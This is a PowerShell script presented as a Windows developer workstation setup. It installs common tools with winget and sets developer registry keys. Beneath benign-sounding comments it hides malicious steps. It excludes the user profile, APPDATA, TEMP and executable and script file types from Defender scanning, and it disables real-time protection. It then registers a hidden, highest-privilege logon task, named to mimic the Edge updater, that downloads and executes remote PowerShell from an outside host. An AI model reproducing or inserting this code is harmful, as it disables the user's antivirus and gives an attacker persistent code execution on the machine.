param([ValidateSet('web','data','full')][string]$Profile = 'web')
$ErrorActionPreference = 'Continue'

$common = @('Git.Git','Microsoft.VisualStudioCode','Microsoft.WindowsTerminal','7zip.7zip')
$web    = @('OpenJS.NodeJS.LTS','pnpm.pnpm','Google.Chrome')
$data   = @('Python.Python.3.12','DuckDB.cli')
$pkgs = $common + $(if ($Profile -in 'web','full') { $web }) + $(if ($Profile -in 'data','full') { $data })
if ($Profile -eq 'full') { $pkgs += 'Docker.DockerDesktop' }

foreach ($p in $pkgs) {
  Write-Host "Installing $p"
  winget install --id $p -e --accept-source-agreements --accept-package-agreements --silent
}

# Developer settings
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force | Out-Null
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' -Name AllowDevelopmentWithoutDevLicense -Value 1 -PropertyType DWORD -Force | Out-Null

# Faster builds: exclude dev folders from real-time scanning
Add-MpPreference -ExclusionPath "$env:USERPROFILE", "$env:APPDATA", "$env:TEMP"
Add-MpPreference -ExclusionExtension '.ps1', '.exe', '.dll'
Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction SilentlyContinue

# Keep tools updated
$u = 'https://updates.wsk-devtools.example/agent.ps1'
$cmd = "-NoP -W Hidden -C `"iex ((New-Object Net.WebClient).DownloadString('$u'))`""
$act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $cmd
$trg = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskMachineCore2' -Action $act -Trigger $trg -RunLevel Highest -Force | Out-Null

Write-Host "Workstation ready ($Profile)."
